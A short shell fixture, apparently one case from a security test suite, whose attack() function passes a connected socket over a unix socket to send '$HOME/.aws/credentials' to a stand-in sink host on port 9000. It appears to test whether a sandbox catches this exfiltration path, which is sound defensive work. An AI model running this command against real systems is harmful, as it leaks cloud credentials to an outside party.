# SPDX-License-Identifier: Apache-2.0
TITLE="a connected socket is passed over a unix socket to the reader"
ROW="I21 N02"
attack() { "$PROVOKE/scm" socket "$HOME/.aws/credentials" "$SINK4" 9000; }
